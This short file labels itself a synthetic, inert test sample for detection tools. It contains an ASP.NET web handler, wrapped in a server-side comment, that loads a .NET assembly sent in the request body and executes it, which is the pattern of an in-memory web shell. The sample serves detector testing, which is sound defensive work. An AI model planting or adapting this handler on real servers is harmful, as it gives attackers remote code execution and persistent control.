<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ WebHandler Language="C#" Class="H"%>
public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { byte[] d = X(c.Request.BinaryRead(c.Request.ContentLength)); if (c.Application["a"] == null) c.Application["a"] = AppDomain.CurrentDomain.Load(d); else ((System.Reflection.Assembly)c.Application["a"]).CreateInstance("M").Equals(c); } }
--%>
